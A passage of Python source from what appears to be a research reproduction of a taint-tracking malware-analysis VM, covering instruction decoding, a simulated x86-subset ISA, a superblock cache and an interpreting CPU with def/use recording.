    def __init__(self, program: Program, threshold: int) -> None:
        self.instructions = program.instructions
        self.threshold = threshold
        self.compiled = 0
        self.entries = discover_regions(program, self)


def superblock_cache(
    program: Program, threshold: Optional[int] = None
) -> SuperblockCache:
    cache = getattr(program, "_superblock_cache", None)
    if (
        cache is not None
        and cache.instructions is program.instructions
        and (threshold is None or cache.threshold == threshold)
    ):
        return cache
    cache = SuperblockCache(
        program, DEFAULT_THRESHOLD if threshold is None else threshold
    )
    program._superblock_cache = cache
    return cache


__all__ = [
    "DEFAULT_THRESHOLD",
    "MIN_REGION",
    "Region",
    "SuperblockCache",
    "default_enabled",
    "discover_regions",
    "overridden",
    "superblock_cache",
]
