"""Predecoded instruction handlers — the interpreter's fast path.

``CPU._execute`` dispatches on mnemonic strings and threads a
``(value, TagSet)`` pair through every operand access.  That is the right
shape for exactness (def/use records, taint propagation), but it is pure
overhead on the overwhelmingly common step: an untainted ALU/branch
instruction in a profiling run that records no instructions.

This module binds each :class:`~repro.vm.isa.Instruction` of a program —
once, at first execution — to a triple ``(full, fast, text)``:

* ``full(cpu, pc, seq)`` — the exact legacy semantics (taint, def/use,
  tainted-predicate events), minus the per-step mnemonic string chain and
  the per-step ``str(instr)``/operand re-normalization.  It delegates to the
  CPU's existing helpers so the single source of semantic truth stays in
  ``cpu.py``.
* ``fast(cpu)`` — an untainted specialization with pre-resolved operand
  accessors: plain ints end to end, no TagSet plumbing, no def/use lists,
  no flag-taint writes.  ``None`` for steps the fast loop must not swallow
  (``call @Api`` — taint can be minted there — and operand shapes the slow
  path would fault on).  Valid **only** while the machine holds no live
  taint and instruction recording is off; ``CPU`` guards that invariant.
* ``text`` — cached ``str(instr)`` for :class:`InstructionRecord`.

Fault behaviour is bit-for-bit compatible: accessors evaluate operands in
the same order as the slow path, so the *same* access faults first.

The decoded table is cached on the ``Program`` (keyed by the identity of
its instruction list) and excluded from pickling — worker processes and
snapshots re-decode locally.
"""

from __future__ import annotations

from typing import Callable, List, Optional, Tuple

from .isa import Instruction
from .operands import ApiRef, Imm, Mem, Reg, mask32
from .program import Program

_M = 0xFFFFFFFF

#: ``fast`` handler: mutates the cpu, returns nothing.
FastHandler = Callable[[object], None]
#: ``full`` handler: exact legacy step semantics.
FullHandler = Callable[[object, int, int], None]
#: One decoded instruction.
DecodedEntry = Tuple[FullHandler, Optional[FastHandler], str]


# ---------------------------------------------------------------------------
# fast-path operand accessors (plain ints, no taint)
# ---------------------------------------------------------------------------


def _ea(op: Mem) -> Callable[[object], int]:
    """Effective-address closure; masking matches ``CPU._mem_address``."""
    base, index, scale, disp = op.base, op.index, op.scale, op.disp
    if base and index:
        return lambda cpu: (cpu.regs[base] + cpu.regs[index] * scale + disp) & _M
    if base:
        if disp == 0:
            return lambda cpu: cpu.regs[base]
        return lambda cpu: (cpu.regs[base] + disp) & _M
    if index:
        return lambda cpu: (cpu.regs[index] * scale + disp) & _M
    addr = disp & _M
    return lambda cpu: addr


def _load(op) -> Optional[Callable[[object], int]]:
    if type(op) is Reg:
        name = op.name
        return lambda cpu: cpu.regs[name]
    if type(op) is Imm:
        value = mask32(op.value)
        return lambda cpu: value
    if type(op) is Mem:
        ea = _ea(op)
        size = op.size
        return lambda cpu: cpu.memory.read_plain(ea(cpu), size)
    return None  # ApiRef — only legal as a call target


def _store(op) -> Optional[Callable[[object, int], None]]:
    if type(op) is Reg:
        name = op.name

        def store_reg(cpu, value):
            cpu.regs[name] = value & _M

        return store_reg
    if type(op) is Mem:
        ea = _ea(op)
        size = op.size
        return lambda cpu, value: cpu.memory.write_plain(ea(cpu), value, size)
    return None  # Imm destination — slow path faults; keep it there


def _movb_dst(op):
    """The slow path rebuilds byte-sized Mem destinations each step; the
    decoder normalizes once."""
    if type(op) is Mem and op.size != 1:
        return Mem(op.base, op.index, op.scale, op.disp, 1, op.symbol)
    return op


# ---------------------------------------------------------------------------
# fast handlers
# ---------------------------------------------------------------------------

#: Condition evaluators over the flags dict (same table as ``CPU._jump``).
_CONDS = {
    "je": lambda f: f["zf"] == 1,
    "jz": lambda f: f["zf"] == 1,
    "jne": lambda f: f["zf"] == 0,
    "jnz": lambda f: f["zf"] == 0,
    "jl": lambda f: f["sf"] == 1,
    "jge": lambda f: f["sf"] == 0,
    "jle": lambda f: f["sf"] == 1 or f["zf"] == 1,
    "jg": lambda f: f["sf"] == 0 and f["zf"] == 0,
    "jb": lambda f: f["cf"] == 1,
    "jae": lambda f: f["cf"] == 0,
    "jbe": lambda f: f["cf"] == 1 or f["zf"] == 1,
    "ja": lambda f: f["cf"] == 0 and f["zf"] == 0,
    "js": lambda f: f["sf"] == 1,
    "jns": lambda f: f["sf"] == 0,
}

#: result/carry lambdas for the binary ALU group (cf=0 where the slow path
#: leaves the default).
_BINOPS = {
    "add": lambda a, b: (a + b, 1 if a + b > _M else 0),
    "sub": lambda a, b: (a - b, 1 if a < b else 0),
    "xor": lambda a, b: (a ^ b, 0),
    "and": lambda a, b: (a & b, 0),
    "or": lambda a, b: (a | b, 0),
    "shl": lambda a, b: (a << (b & 0x1F), 0),
    "shr": lambda a, b: (a >> (b & 0x1F), 0),
    "imul": lambda a, b: (a * b, 0),
    "mul": lambda a, b: (a * b, 0),
}

_UNOPS = {
    "inc": lambda v: v + 1,
    "dec": lambda v: v - 1,
    "not": lambda v: ~v,
    "neg": lambda v: -v,
}


def _fast_handler(instr: Instruction) -> Optional[FastHandler]:
    from .cpu import ExitStatus  # local import: cpu imports this module

    m = instr.mnemonic
    ops = instr.operands

    if m == "nop":
        def fast_nop(cpu):
            return None

        return fast_nop

    if m == "halt":
        def fast_halt(cpu):
            cpu.status = ExitStatus.HALTED

        return fast_halt

    if m in ("mov", "movb"):
        dst = _movb_dst(ops[0]) if m == "movb" else ops[0]
        if m == "mov" and type(dst) is Reg:
            # The two dominant shapes get direct register-file stores
            # instead of a store-closure calling a load-closure.
            if type(ops[1]) is Imm:
                name, value = dst.name, mask32(ops[1].value)

                def fast_mov_ri(cpu):
                    cpu.regs[name] = value

                return fast_mov_ri
            if type(ops[1]) is Reg:
                name, src_name = dst.name, ops[1].name

                def fast_mov_rr(cpu):
                    regs = cpu.regs
                    regs[name] = regs[src_name]

                return fast_mov_rr
        load = _load(ops[1])
        store = _store(dst)
        if load is None or store is None:
            return None
        if m == "movb":
            def fast_movb(cpu):
                store(cpu, load(cpu) & 0xFF)

            return fast_movb

        def fast_mov(cpu):
            store(cpu, load(cpu))

        return fast_mov

    if m == "lea":
        if type(ops[1]) is not Mem:
            return None  # slow path faults
        ea = _ea(ops[1])
        store = _store(ops[0])
        if store is None:
            return None

        def fast_lea(cpu):
            store(cpu, ea(cpu))

        return fast_lea

    if m == "xchg":
        la, lb = _load(ops[0]), _load(ops[1])
        sa, sb = _store(ops[0]), _store(ops[1])
        if None in (la, lb, sa, sb):
            return None

        def fast_xchg(cpu):
            a = la(cpu)
            b = lb(cpu)
            sa(cpu, b)
            sb(cpu, a)

        return fast_xchg

    if m == "push":
        load = _load(ops[0])
        if load is None:
            return None

        def fast_push(cpu):
            value = load(cpu)  # evaluated before esp moves, like the slow path
            regs = cpu.regs
            esp = (regs["esp"] - 4) & _M
            regs["esp"] = esp
            cpu.memory.write_plain(esp, value, 4)

        return fast_push

    if m == "pop":
        store = _store(ops[0])
        if store is None:
            return None

        def fast_pop(cpu):
            regs = cpu.regs
            esp = regs["esp"]
            value = cpu.memory.read_plain(esp, 4)
            regs["esp"] = (esp + 4) & _M
            store(cpu, value)  # dst address sees the popped esp (pop [esp])

        return fast_pop

    if m in _UNOPS:
        load = _load(ops[0])
        store = _store(ops[0])
        if load is None or store is None:
            return None
        op = _UNOPS[m]
        sets_flags = m != "not"

        def fast_unary(cpu):
            result = op(load(cpu)) & _M
            store(cpu, result)
            if sets_flags:  # cf untouched, like _unary's cf=None
                flags = cpu.flags
                flags["zf"] = 1 if result == 0 else 0
                flags["sf"] = 1 if result & 0x80000000 else 0

        return fast_unary

    if m in _BINOPS:
        dst, src = ops
        if (
            m == "xor"
            and type(dst) is Reg
            and type(src) is Reg
            and dst.name == src.name
        ):
            name = dst.name

            def fast_xor_self(cpu):
                cpu.regs[name] = 0
                flags = cpu.flags
                flags["zf"] = 1
                flags["sf"] = 0
                flags["cf"] = 0

            return fast_xor_self
        la, lb = _load(dst), _load(src)
        store = _store(dst)
        if la is None or lb is None or store is None:
            return None
        op = _BINOPS[m]

        def fast_binary(cpu):
            result, cf = op(la(cpu), lb(cpu))
            result &= _M
            store(cpu, result)
            flags = cpu.flags
            flags["zf"] = 1 if result == 0 else 0
            flags["sf"] = 1 if result & 0x80000000 else 0
            flags["cf"] = cf

        return fast_binary

    if m in ("cmp", "test"):
        la, lb = _load(ops[0]), _load(ops[1])
        if la is None or lb is None:
            return None
        if m == "cmp":
            def fast_cmp(cpu):
                a = la(cpu)
                b = lb(cpu)
                result = (a - b) & _M
                flags = cpu.flags
                flags["zf"] = 1 if result == 0 else 0
                flags["sf"] = 1 if result & 0x80000000 else 0
                flags["cf"] = 1 if a < b else 0

            return fast_cmp

        def fast_test(cpu):
            result = la(cpu) & lb(cpu)
            flags = cpu.flags
            flags["zf"] = 1 if result == 0 else 0
            flags["sf"] = 1 if result & 0x80000000 else 0
            flags["cf"] = 0

        return fast_test

    if instr.is_jump:
        load = _load(ops[0])
        if load is None:
            return None
        if m == "jmp":
            def fast_jmp(cpu):
                cpu.pc = load(cpu)

            return fast_jmp
        cond = _CONDS[m]

        def fast_jcc(cpu):
            if cond(cpu.flags):
                cpu.pc = load(cpu)

        return fast_jcc

    if m == "call":
        if type(ops[0]) is ApiRef:
            return None  # taint can be minted by the dispatcher
        load = _load(ops[0])
        if load is None:
            return None

        def fast_call(cpu):
            value = load(cpu)
            regs = cpu.regs
            esp = (regs["esp"] - 4) & _M
            regs["esp"] = esp
            cpu.memory.write_plain(esp, cpu.pc, 4)  # pc already points past
            cpu.callstack.append(cpu.pc - 1)
            cpu.pc = value

        return fast_call

    if m == "ret":
        if not ops:
            def fast_ret(cpu):
                regs = cpu.regs
                esp = regs["esp"]
                value = cpu.memory.read_plain(esp, 4)
                regs["esp"] = (esp + 4) & _M
                if cpu.callstack:
                    cpu.callstack.pop()
                cpu.pc = value

            return fast_ret
        load = _load(ops[0])
        if load is None:
            return None

        def fast_ret_n(cpu):
            regs = cpu.regs
            esp = regs["esp"]
            value = cpu.memory.read_plain(esp, 4)
            esp = (esp + 4) & _M
            regs["esp"] = esp  # extra operand sees the popped esp
            regs["esp"] = (esp + load(cpu)) & _M
            if cpu.callstack:
                cpu.callstack.pop()
            cpu.pc = value

        return fast_ret_n

    return None


# ---------------------------------------------------------------------------
# full handlers (legacy semantics, pre-dispatched)
# ---------------------------------------------------------------------------


def _full_handler(instr: Instruction, text: str) -> FullHandler:
    from .cpu import ExitStatus

    m = instr.mnemonic
    ops = instr.operands

    if m == "nop":
        def full_nop(cpu, pc, seq):
            return None

        return full_nop

    if m == "halt":
        def full_halt(cpu, pc, seq):
            cpu.status = ExitStatus.HALTED

        return full_halt

    if m in ("mov", "movb"):
        movb = m == "movb"
        dst = _movb_dst(ops[0]) if movb else ops[0]
        src = ops[1]

        def full_mov(cpu, pc, seq):
            value, taint = cpu.read_operand(src)
            if movb:
                value &= 0xFF
            cpu.write_operand(dst, value, taint)

        return full_mov

    if m == "lea":
        def full_lea(cpu, pc, seq):
            cpu._lea(ops[0], ops[1])

        return full_lea

    if m == "xchg":
        a_op, b_op = ops

        def full_xchg(cpu, pc, seq):
            a, ta = cpu.read_operand(a_op)
            b, tb = cpu.read_operand(b_op)
            cpu.write_operand(a_op, b, tb)
            cpu.write_operand(b_op, a, ta)

        return full_xchg

    if m == "push":
        src = ops[0]

        def full_push(cpu, pc, seq):
            value, taint = cpu.read_operand(src)
            cpu.push(value, taint)

        return full_push

    if m == "pop":
        dst = ops[0]

        def full_pop(cpu, pc, seq):
            value, taint = cpu.pop()
            cpu.write_operand(dst, value, taint)

        return full_pop

    if m in _UNOPS:
        dst = ops[0]

        def full_unary(cpu, pc, seq):
            cpu._unary(m, dst)

        return full_unary

    if m in _BINOPS:
        dst, src = ops

        def full_binary(cpu, pc, seq):
            cpu._binary(m, dst, src)

        return full_binary

    if m in ("cmp", "test"):
        lhs, rhs = ops

        def full_compare(cpu, pc, seq):
            cpu._compare(m, lhs, rhs, pc, seq, text)

        return full_compare

    if instr.is_jump:
        target = ops[0]

        def full_jump(cpu, pc, seq):
            cpu._jump(m, target)

        return full_jump

    if m == "call":
        target = ops[0]

        def full_call(cpu, pc, seq):
            cpu._call(target, pc, seq, text)

        return full_call

    if m == "ret":
        def full_ret(cpu, pc, seq):
            cpu._ret(ops)

        return full_ret

    # Unreachable: Instruction validates mnemonics at construction.
    def full_unimplemented(cpu, pc, seq):  # pragma: no cover
        from .cpu import CpuFault

        raise CpuFault(f"unimplemented mnemonic {m}")

    return full_unimplemented


# ---------------------------------------------------------------------------
# program-level decode (cached)
# ---------------------------------------------------------------------------


def decode_instruction(instr: Instruction) -> DecodedEntry:
    text = str(instr)
    return (_full_handler(instr, text), _fast_handler(instr), text)


def decoded_program(program: Program) -> Tuple[DecodedEntry, ...]:
    """Decode (or fetch the cached decode of) a program's instructions.

    The cache rides on the Program instance but is keyed by the identity of
    the instruction list, so a swapped-out listing re-decodes; pickling
    drops it (``Program.__getstate__``).
    """
    cache = getattr(program, "_decoded_cache", None)
    if cache is not None and cache[0] is program.instructions:
        return cache[1]
    entries: Tuple[DecodedEntry, ...] = tuple(
        decode_instruction(instr) for instr in program.instructions
    )
    program._decoded_cache = (program.instructions, entries)
    return entries


__all__ = ["DecodedEntry", "decode_instruction", "decoded_program"]
