"""Instruction set of the simulated 32-bit machine.

The ISA is a compact x86 subset: enough for real condition-check / string /
hash logic (the malware corpus is written in it) while keeping the
interpreter, taint propagation and slicing exact.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Tuple

from .operands import Operand, operands_text

#: Data-movement / ALU mnemonics, their operand counts checked at assembly.
ALU_BINARY = frozenset({"add", "sub", "xor", "and", "or", "shl", "shr", "imul", "mul"})
ALU_UNARY = frozenset({"inc", "dec", "not", "neg"})
MOVES = frozenset({"mov", "movb", "lea", "push", "pop", "xchg"})
COMPARES = frozenset({"cmp", "test"})
JUMPS = frozenset(
    {
        "jmp",
        "je",
        "jz",
        "jne",
        "jnz",
        "jl",
        "jle",
        "jg",
        "jge",
        "jb",
        "jbe",
        "ja",
        "jae",
        "js",
        "jns",
    }
)
CALLS = frozenset({"call", "ret"})
MISC = frozenset({"nop", "halt"})

ALL_MNEMONICS = ALU_BINARY | ALU_UNARY | MOVES | COMPARES | JUMPS | CALLS | MISC

#: Mnemonic -> valid operand counts.
ARITY = {}
for _m in ALU_BINARY | COMPARES:
    ARITY[_m] = (2,)
for _m in ALU_UNARY:
    ARITY[_m] = (1,)
ARITY.update(
    {
        "mov": (2,),
        "movb": (2,),
        "lea": (2,),
        "xchg": (2,),
        "push": (1,),
        "pop": (1,),
        "call": (1,),
        "ret": (0, 1),
        "nop": (0,),
        "halt": (0,),
    }
)
for _m in JUMPS:
    ARITY[_m] = (1,)


@dataclass(frozen=True)
class Instruction:
    """One decoded instruction; ``pc`` is assigned at load time."""

    mnemonic: str
    operands: Tuple[Operand, ...] = field(default_factory=tuple)
    line: int = 0  # source line for diagnostics

    def __post_init__(self) -> None:
        if self.mnemonic not in ALL_MNEMONICS:
            raise ValueError(f"unknown mnemonic {self.mnemonic!r} (line {self.line})")
        counts = ARITY[self.mnemonic]
        if len(self.operands) not in counts:
            raise ValueError(
                f"{self.mnemonic} expects {counts} operands, got "
                f"{len(self.operands)} (line {self.line})"
            )

    @property
    def is_jump(self) -> bool:
        return self.mnemonic in JUMPS

    @property
    def is_conditional_jump(self) -> bool:
        return self.mnemonic in JUMPS and self.mnemonic != "jmp"

    @property
    def is_compare(self) -> bool:
        return self.mnemonic in COMPARES

    def __str__(self) -> str:
        if not self.operands:
            return self.mnemonic
        return f"{self.mnemonic} {operands_text(self.operands)}"
