"""Interpreting CPU with inline forward taint propagation.

The CPU executes one :class:`Program` inside one guest process.  It is the
DynamoRIO-replacement: every step records a def/use
:class:`~repro.tracing.events.InstructionRecord` (for backward slicing) and
every tainted ``cmp``/``test`` records a
:class:`~repro.tracing.events.TaintedPredicateEvent` (Phase-I candidate
signal).  API calls trap into an injected dispatcher.
"""

from __future__ import annotations

import enum
import time
from typing import Callable, Dict, List, Optional, Tuple

from .. import obs
from ..taint.labels import EMPTY, TagSet, union
from ..tracing.events import ApiCallEvent, InstructionRecord, TaintedPredicateEvent
from ..tracing.trace import Trace
from . import superblock as superblock_mod
from .decode import decoded_program
from .isa import Instruction
from .memory import Memory, MemoryFault, STACK_TOP, TEXT_BASE
from .operands import ApiRef, Imm, Mem, Operand, Reg, mask32, to_signed
from .program import Program


class ExitStatus(enum.Enum):
    RUNNING = "running"
    HALTED = "halted"            # program ran off its own accord (halt)
    TERMINATED = "terminated"    # ExitProcess/TerminateProcess on itself
    BUDGET = "budget_exhausted"  # paper's 1-minute cap analogue
    FAULT = "fault"              # crash (bad memory, bad jump…)


class CpuFault(Exception):
    """Internal faults that end the run with ``ExitStatus.FAULT``."""


class _VmFlushCache:
    """Counter handles reused by ``CPU._flush_obs`` across runs.

    Keyed on the obs registry generation the same way as
    ``Dispatcher._FlushCache``: ``obs.reset()`` bumps ``metrics.generation``
    and discards the counter families these handles point into, so a
    generation mismatch drops every handle.  (The previous scheme stored the
    generation as just another entry of the same dict that held the
    per-status ``vm.runs`` handles — correctness hinged on no exit status
    ever being named ``"generation"``/``"instructions"``/… .)
    """

    __slots__ = (
        "generation",
        "instructions",
        "api_calls",
        "tainted_predicates",
        "fast_steps",
        "sb_compiled",
        "sb_entries",
        "sb_guard_exits",
        "runs",
    )

    def __init__(self) -> None:
        self.generation = -1
        self.instructions = None
        self.api_calls = None
        self.tainted_predicates = None
        self.fast_steps = None
        self.sb_compiled = None
        self.sb_entries = None
        self.sb_guard_exits = None
        #: status value -> vm.runs counter handle.
        self.runs: dict = {}

    def refresh(self, metrics) -> None:
        if self.generation != metrics.generation:
            self.generation = metrics.generation
            self.instructions = metrics.counter("vm.instructions")
            self.api_calls = metrics.counter("vm.api_calls")
            self.tainted_predicates = metrics.counter("vm.tainted_predicates")
            self.fast_steps = metrics.counter("vm.fast_steps")
            self.sb_compiled = metrics.counter("vm.superblocks.compiled")
            self.sb_entries = metrics.counter("vm.superblocks.entries")
            self.sb_guard_exits = metrics.counter("vm.superblocks.guard_exits")
            self.runs = {}


_VM_FLUSH_CACHE = _VmFlushCache()


class _ProfAcc:
    """Per-run tier-time accumulator for the profiled execution loop.

    Plain attributes only — the profiled loops accumulate locally and flush
    once into ``obs.prof`` when the run ends (same once-per-run discipline
    as ``_flush_obs``), so even profiling-on overhead stays at segment
    granularity, not per instruction.
    """

    __slots__ = ("slow_s", "slow_n", "fast_s", "fast_n", "regions", "guard_exits")

    def __init__(self) -> None:
        self.slow_s = 0.0
        self.slow_n = 0
        self.fast_s = 0.0
        self.fast_n = 0
        #: region entry idx -> [entries, seconds] (one profile node each).
        self.regions: Dict[int, list] = {}
        self.guard_exits = 0

    def flush(self, prof) -> None:
        if self.slow_n:
            prof.add("vm;slow", self.slow_s, self.slow_n)
        if self.fast_n:
            prof.add("vm;fast", self.fast_s, self.fast_n)
        for idx in sorted(self.regions):
            entries, seconds = self.regions[idx]
            prof.add(f"vm;superblock;region@0x{TEXT_BASE + idx:08x}", seconds, entries)
        if self.guard_exits:
            # Count-only: the refused dispatch's time is already attributed
            # to its region node.
            prof.add("vm;superblock;guard_exit", 0.0, self.guard_exits)


class CPU:
    """One guest hardware thread.

    Parameters
    ----------
    program:
        Assembled guest program.
    dispatcher:
        Object with ``invoke(cpu, api_name) -> None`` handling ``call @Api``
        (the winapi layer).  May be ``None`` for pure computations.
    process:
        The :class:`~repro.winenv.processes.Process` this program runs as.
    max_steps:
        Execution budget; the paper caps profiling runs at one minute, we cap
        at an instruction count.
    record_instructions:
        Keep per-step def/use records (needed for backward slicing; can be
        disabled for cheap population-scale profiling).
    taint_addresses:
        Pointer-taint policy (off by default, matching the paper): when on,
        a memory load's result also carries the taint of the registers used
        to *compute the address*, defeating table-lookup taint laundering
        (``movb eax, [table+tainted_index]``) at the cost of over-tainting —
        the §VII trade-off.
    """

    def __init__(
        self,
        program: Program,
        environment=None,
        process=None,
        dispatcher=None,
        max_steps: int = 200_000,
        record_instructions: bool = True,
        trace: Optional[Trace] = None,
        taint_addresses: bool = False,
        superblocks: Optional[bool] = None,
        superblock_threshold: Optional[int] = None,
    ) -> None:
        self.program = program
        self.environment = environment
        self.process = process
        self.dispatcher = dispatcher
        self.max_steps = max_steps
        self.record_instructions = record_instructions
        # Def/use accumulation only feeds InstructionRecords; skip the
        # per-access bookkeeping entirely when nothing consumes it.
        self._track = record_instructions
        self.taint_addresses = taint_addresses

        self.memory = Memory()
        program.load_into(self.memory)

        self.regs = {name: 0 for name in ("eax", "ebx", "ecx", "edx", "esi", "edi", "ebp", "esp")}
        self.reg_taint = {name: EMPTY for name in self.regs}
        self.regs["esp"] = STACK_TOP
        self.regs["ebp"] = STACK_TOP

        self.flags = {"zf": 0, "sf": 0, "cf": 0}
        self.flag_taint: TagSet = EMPTY

        self.pc = program.entry
        self.steps = 0
        self.status = ExitStatus.RUNNING
        self.fault_reason: Optional[str] = None
        self.callstack: List[int] = []

        self.trace = trace if trace is not None else Trace(program_name=program.name)
        self.trace.program_name = program.name

        # Per-step def/use accumulators (reset each step).
        self._uses: List[Tuple] = []
        self._defs: List[Tuple] = []
        self._api_step_recorded = False
        self._last_addr_taint: TagSet = EMPTY

        #: Predecoded (full, fast, text) handler per instruction.
        self._decoded = decoded_program(program)
        #: Steps/events already accounted before this CPU started (0 for a
        #: fresh run; the snapshot's prefix for a resumed one) — so
        #: ``_flush_obs`` reports only what *this* CPU executed.
        self._steps_at_start = 0
        self._events_at_start = len(self.trace.api_calls)
        self._predicates_at_start = len(self.trace.predicates)
        # The untainted fast path is legal only while nothing needs to be
        # recorded and no live taint exists anywhere in the machine; taint
        # can only enter through an API call, so ``_call`` rechecks after
        # every dispatcher invoke.
        self._allow_fast = not record_instructions
        self._fast_mode = self._allow_fast
        self._init_superblocks(superblocks, superblock_threshold)

    def _init_superblocks(
        self, superblocks: Optional[bool], threshold: Optional[int]
    ) -> None:
        """Attach the per-program superblock cache (tier 3).

        Superblocks are only legal when instruction recording is off (they
        produce no InstructionRecords); with recording on the cache is not
        even attached.  Unlike the fast loop they *do* run under live taint,
        behind the guards documented in :mod:`repro.vm.superblock`."""
        enabled = (
            superblock_mod.default_enabled() if superblocks is None else superblocks
        )
        self._superblocks = (
            superblock_mod.superblock_cache(self.program, threshold)
            if enabled and self._allow_fast
            else None
        )
        # Plain-int run accumulators, flushed once by ``_flush_obs``.
        self._sb_entries = 0
        self._sb_guard_exits = 0
        self._sb_compiled_base = (
            self._superblocks.compiled if self._superblocks is not None else 0
        )
        self._slow_steps = 0

    @classmethod
    def resume(
        cls,
        program: Program,
        environment,
        process,
        dispatcher,
        *,
        memory: Memory,
        regs: dict,
        reg_taint: dict,
        flags: dict,
        flag_taint: TagSet,
        pc: int,
        steps: int,
        callstack: List[int],
        trace: Trace,
        max_steps: int = 200_000,
        record_instructions: bool = False,
        taint_addresses: bool = False,
        superblocks: Optional[bool] = None,
        superblock_threshold: Optional[int] = None,
    ) -> "CPU":
        """Build a CPU mid-run from restored machine state (see
        :mod:`repro.core.snapshot`) instead of a fresh image load.

        ``pc``/``steps`` name the instruction the resumed run executes
        first; the budget check compares the *cumulative* step count against
        ``max_steps``, so a resumed run exhausts its budget at exactly the
        same instruction a full rerun would.
        """
        cpu = cls.__new__(cls)
        cpu.program = program
        cpu.environment = environment
        cpu.process = process
        cpu.dispatcher = dispatcher
        cpu.max_steps = max_steps
        cpu.record_instructions = record_instructions
        cpu._track = record_instructions
        cpu.taint_addresses = taint_addresses
        cpu.memory = memory
        cpu.regs = regs
        cpu.reg_taint = reg_taint
        cpu.flags = flags
        cpu.flag_taint = flag_taint
        cpu.pc = pc
        cpu.steps = steps
        cpu.status = ExitStatus.RUNNING
        cpu.fault_reason = None
        cpu.callstack = callstack
        cpu.trace = trace
        cpu.trace.program_name = program.name
        cpu._uses = []
        cpu._defs = []
        cpu._api_step_recorded = False
        cpu._last_addr_taint = EMPTY
        cpu._decoded = decoded_program(program)
        cpu._steps_at_start = steps
        cpu._events_at_start = len(trace.api_calls)
        cpu._predicates_at_start = len(trace.predicates)
        cpu._allow_fast = not record_instructions
        cpu._fast_mode = cpu._allow_fast and not cpu._taint_live()
        # A resumed pc may land mid-region: that index simply is not a
        # region entry, so execution proceeds per-instruction until the
        # next entry pc — no special casing needed.
        cpu._init_superblocks(superblocks, superblock_threshold)
        return cpu

    def _taint_live(self) -> bool:
        """Any live taint anywhere in the machine?  Exact: ``Memory``
        drops per-byte entries when a byte is overwritten untainted, and
        EMPTY tag sets are falsy."""
        return bool(
            self.flag_taint
            or self.memory._taint
            or any(self.reg_taint.values())
        )

    # ------------------------------------------------------------------
    # register / memory access with def-use tracking
    # ------------------------------------------------------------------

    def get_reg(self, name: str) -> Tuple[int, TagSet]:
        if self._track:
            self._uses.append(("reg", name))
        return self.regs[name], self.reg_taint[name]

    def set_reg(self, name: str, value: int, taint: TagSet = EMPTY) -> None:
        if self._track:
            self._defs.append(("reg", name))
        self.regs[name] = mask32(value)
        self.reg_taint[name] = taint

    def _mem_address(self, op: Mem) -> int:
        addr = op.disp
        addr_taints = []
        if op.base:
            value, taint = self.get_reg(op.base)
            addr += value
            if taint:
                addr_taints.append(taint)
        if op.index:
            value, taint = self.get_reg(op.index)
            addr += value * op.scale
            if taint:
                addr_taints.append(taint)
        self._last_addr_taint = union(*addr_taints) if addr_taints else EMPTY
        return mask32(addr)

    def read_mem(self, addr: int, size: int) -> Tuple[int, TagSet]:
        try:
            value, taint = self.memory.read_span(addr, size)
        except MemoryFault as exc:
            # Byte-loop parity: bytes before the faulting one were used.
            if self._track:
                self._note_partial(self._uses, addr, size, exc.addr)
            raise
        if self._track:
            uses = self._uses
            a0 = addr & 0xFFFFFFFF
            if a0 + size <= 0x1_0000_0000:
                for i in range(size):
                    uses.append(("mem", a0 + i))
            else:
                for i in range(size):
                    uses.append(("mem", (addr + i) & 0xFFFFFFFF))
        return value, taint

    def write_mem(self, addr: int, value: int, size: int, taint: TagSet = EMPTY) -> None:
        try:
            self.memory.write_span(addr, value, size, taint)
        except MemoryFault as exc:
            # Byte-loop parity: bytes before the faulting one were written.
            if self._track:
                self._note_partial(self._defs, addr, size, exc.addr)
            raise
        if self._track:
            defs = self._defs
            a0 = addr & 0xFFFFFFFF
            if a0 + size <= 0x1_0000_0000:
                for i in range(size):
                    defs.append(("mem", a0 + i))
            else:
                for i in range(size):
                    defs.append(("mem", (addr + i) & 0xFFFFFFFF))

    @staticmethod
    def _note_partial(log: list, addr: int, size: int, fault_addr: int) -> None:
        for i in range(size):
            a = mask32(addr + i)
            if a == fault_addr:
                break
            log.append(("mem", a))

    # ------------------------------------------------------------------
    # operand evaluation
    # ------------------------------------------------------------------

    def read_operand(self, op: Operand) -> Tuple[int, TagSet]:
        if isinstance(op, Reg):
            return self.get_reg(op.name)
        if isinstance(op, Imm):
            return mask32(op.value), EMPTY
        if isinstance(op, Mem):
            addr = self._mem_address(op)
            value, taint = self.read_mem(addr, op.size)
            if self.taint_addresses and self._last_addr_taint:
                taint = union(taint, self._last_addr_taint)
            return value, taint
        raise CpuFault(f"cannot read operand {op}")

    def write_operand(self, op: Operand, value: int, taint: TagSet = EMPTY) -> None:
        if isinstance(op, Reg):
            self.set_reg(op.name, value, taint)
            return
        if isinstance(op, Mem):
            self.write_mem(self._mem_address(op), value, op.size, taint)
            return
        raise CpuFault(f"cannot write operand {op}")

    # ------------------------------------------------------------------
    # stack helpers (shared with the API dispatcher)
    # ------------------------------------------------------------------

    def push(self, value: int, taint: TagSet = EMPTY) -> None:
        esp, esp_taint = self.get_reg("esp")
        esp = mask32(esp - 4)
        self.set_reg("esp", esp, esp_taint)
        self.write_mem(esp, value, 4, taint)

    def pop(self) -> Tuple[int, TagSet]:
        esp, esp_taint = self.get_reg("esp")
        value, taint = self.read_mem(esp, 4)
        self.set_reg("esp", mask32(esp + 4), esp_taint)
        return value, taint

    def stack_arg(self, index: int) -> Tuple[int, TagSet]:
        """Read stdcall argument ``index`` (0-based) at ``[esp + 4*index]``."""
        esp = self.regs["esp"]
        return self.read_mem(mask32(esp + 4 * index), 4)

    def read_stack_args(self, count: int) -> Tuple[List[int], List[TagSet]]:
        """Read stdcall slots 0..count-1 in one pass.

        Same values, taints, and per-byte use records as ``count``
        individual :meth:`stack_arg` calls, but with a single mapped-region
        check for the whole block — the dispatcher pre-reads every declared
        argument on every API call, which made this the hottest read path
        in API-dense samples."""
        esp = self.regs["esp"]
        a0 = esp & 0xFFFFFFFF
        last = a0 + 4 * count - 1
        values: List[int] = []
        taints: List[TagSet] = []
        if count and last <= 0xFFFFFFFF:
            mem = self.memory
            for start, end in mem._regions:
                if start <= a0 and last < end:
                    data = mem._bytes
                    tmap = mem._taint
                    track = self._track
                    for k in range(count):
                        a = a0 + 4 * k
                        values.append(
                            data.get(a, 0)
                            | data.get(a + 1, 0) << 8
                            | data.get(a + 2, 0) << 16
                            | data.get(a + 3, 0) << 24
                        )
                        if tmap and (
                            a in tmap
                            or a + 1 in tmap
                            or a + 2 in tmap
                            or a + 3 in tmap
                        ):
                            taints.append(
                                union(
                                    *(
                                        t
                                        for j in range(4)
                                        if (t := tmap.get(a + j))
                                    )
                                )
                            )
